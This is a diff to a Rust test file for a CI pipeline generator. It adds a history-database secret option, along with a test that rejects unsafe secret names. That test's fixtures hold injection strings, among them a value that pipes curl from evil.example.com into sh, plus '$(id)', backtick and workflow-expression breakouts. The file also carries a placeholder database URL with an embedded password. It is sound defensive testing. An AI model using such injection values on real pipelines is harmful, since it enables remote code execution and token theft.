@@ -16,6 +16,9 @@ use crate::tune::CpuLayout;
 /// What a job's shell knows: the job's variables (`MACHINE`, `DISTRO`, `DL_DIR`, …).
 type Env = BTreeMap<&'static str, String>;
 
+/// The latency history's database URL the CI secret holds (GitHub passes it as RTBUILD_DB).
+const HISTORY_URL: &str = "postgres://ci:s3cret@db.example.com/rtbuild";
+
 /// Stands for `$(…)` (the bundle URL the build job left): any URL the lab can download.
 const SUBSTITUTED: &str = "https://lab.example.com/bundle.tar.zst";
 
@@ -212,6 +215,7 @@ fn job_env(machine: &str, distro: &str) -> Env {
         ("PATH", "/usr/bin:/bin".to_string()),
         ("RTBUILD_WORK", "/runner/work/repo/rtbuild-work".to_string()),
         ("KAS_WORK_DIR", "/runner/work/repo/rtbuild-work/kas".to_string()),
+        ("RTBUILD_DB", HISTORY_URL.to_string()),
     ])
 }
 
@@ -282,6 +286,7 @@ fn handling(id: &str) -> Option<Handling> {
         "lava" => reaches(&["--lava"], &[]),
         "lava_scenario" => reaches(&["--lava-scenario", "idle,stress-isolated"], &["--lava"]),
         "lava_duration" => reaches(&["--lava-duration", "10m"], &["--lava"]),
+        "history_db_secret" => reaches(&["--history-db-secret", "RTBUILD_HISTORY_DB"], &["--lava"]),
         "lava_tests" => reaches(&["--lava-tests", "cyclictest,oslat"], &["--lava"]),
         "rtbuild_from" => reaches(&["--rtbuild-from", "crates"], &[]),
         "rtbuild_sha256" => reaches(
@@ -356,6 +361,7 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
             let want = cell_plan(args, machine, distro);
             let commands = parsed_commands(text, machine, distro);
             let mut images = 0;
+            let mut histories = 0;
             for (argv, cli) in &commands {
                 match cli.as_ref().map(|c| &c.command) {
                     Some(Command::Image(image)) => {
@@ -376,6 +382,20 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
                         let tests = |t: &str| crate::rttests::parse_list(t).expect("tests");
                         assert_eq!(tests(&lava.measure.tests), tests(&args.lava_tests));
                     }
+                    Some(Command::Report(report)) => {
+                        let history = args.history_db_secret.as_ref().map(|_| HISTORY_URL);
+                        assert_eq!(report.history.as_deref(), history, "{argv:?}");
+                    }
+                    Some(Command::History(history)) => {
+                        assert!(args.history_db_secret.is_some(), "{argv:?}");
+                        let super::history::HistoryCommand::Add(add) = &history.command else {
+                            panic!("a job runs only `history add`: {argv:?}");
+                        };
+                        assert_eq!(add.runs.len(), 1, "{argv:?}");
+                        assert!(add.bundle.is_some(), "records the bundle: {argv:?}");
+                        assert!(!argv.iter().any(|w| w.contains(HISTORY_URL)), "{argv:?}");
+                        histories += 1;
+                    }
                     Some(Command::Lock(lock)) => {
                         assert_eq!(lock.dirs.machine.name.as_deref(), Some(machine.as_str()));
                         assert_eq!(
@@ -387,6 +407,14 @@ fn jobs_build_the_plan(args: &CiArgs, text: &str) {
                 }
             }
             assert_eq!(images, 1, "one rtbuild image per job: {commands:?}");
+            let lavas = commands
+                .iter()
+                .filter(|(_, cli)| {
+                    matches!(cli.as_ref().map(|c| &c.command), Some(Command::Lava(_)))
+                })
+                .count();
+            let want = if args.history_db_secret.is_some() { lavas } else { 0 };
+            assert_eq!(histories, want, "one history add per LAVA job: {commands:?}");
         }
     }
 }
@@ -462,6 +490,8 @@ fn every_rtbuild_command_of_every_pipeline_parses() {
         "threadirqs",
         "--sstate-mirror",
         "https://sstate.example.com/all",
+        "--history-db-secret",
+        "RTBUILD_HISTORY_DB",
     ];
     for format in ["gitlab", "github"] {
         for from in ["crates", "path:.", "git+https://git.example.com/rtbuild.git#v0.1.0"] {
@@ -484,6 +514,9 @@ fn every_rtbuild_command_of_every_pipeline_parses() {
                 if args.lava {
                     assert!(names.contains(&"lava") && names.contains(&"report"), "{names:?}");
                 }
+                if args.history_db_secret.is_some() {
+                    assert!(names.contains(&"history"), "{names:?}");
+                }
                 jobs_build_the_plan(&args, &text);
             }
         }
@@ -496,6 +529,7 @@ fn command_name(command: &Command) -> &'static str {
         Command::Lava(_) => "lava",
         Command::Report(_) => "report",
         Command::Lock(_) => "lock",
+        Command::History(_) => "history",
         _ => "other",
     }
 }
@@ -573,4 +607,57 @@ fn argv_helper_keeps_base_flags_unless_replaced() {
         argv(&[&["--format", "github"]]),
         ["--machines", "rb3gen2-core-kit", "--rtbuild-from", "path:.", "--format", "github"]
     );
+}
+
+/// `--history-db-secret NAME` reaches a workflow expression (`${{ secrets.NAME }}`) and a shell
+/// (`"$NAME"`): anything but a plain identifier is refused (exit 2, one line) before a pipeline
+/// is written, so no name can close the expression or the quotes.
+#[test]
+fn a_history_secret_that_is_no_plain_name_is_refused() {
+    for name in [
+        "",
+        "DB }}${{ github.token",
+        "DB\" ; curl evil.example.com | sh ; \"",
+        "DB$(id)",
+        "DB`id`",
+        "DB-URL",
+        "DB URL",
+        "DB\nX",
+        "1DB",
+        "GITHUB_TOKEN",
+        "github_db",
+        "DB.URL",
+        "DÜ",
+    ] {
+        for format in ["gitlab", "github"] {
+            let args =
+                ci_args(&argv(&[&["--lava", "--format", format], &["--history-db-secret", name]]));
+            let err = pipeline_text(&args).expect_err(name);
+            assert_eq!(err.code(), crate::exit::Exit::Usage, "{name:?}: {err}");
+            let text = err.to_string();
+            assert!(!text.contains('\n'), "one line: {text}");
+            assert!(text.starts_with("bad --history-db-secret `"), "{text}");
+            assert!(text.contains("; pass the name of the secret"), "{text}");
+        }
+    }
+    for name in ["RTBUILD_HISTORY_DB", "_db", "Lab_DB_2"] {
+        let args = ci_args(&argv(&[&["--lava"], &["--history-db-secret", name]]));
+        let text = pipeline_text(&args).expect(name);
+        assert!(text.contains(&format!("export RTBUILD_DB=\"${name}\"")), "{text}");
+        let args =
+            ci_args(&argv(&[&["--lava", "--format", "github"], &["--history-db-secret", name]]));
+        let text = pipeline_text(&args).expect(name);
+        assert!(text.contains(&format!("RTBUILD_DB: ${{{{ secrets.{name} }}}}")), "{text}");
+    }
+    // Without --lava there is no LAVA job to record: clap refuses it.
+    let err = Cli::try_parse_from(
+        ["rtbuild", "ci", "--format", "gitlab", "--machines", "x"].into_iter().chain([
+            "--rtbuild-from",
+            "crates",
+            "--history-db-secret",
+            "DB",
+        ]),
+    )
+    .expect_err("needs --lava");
+    assert_eq!(err.kind(), clap::error::ErrorKind::MissingRequiredArgument);
 }
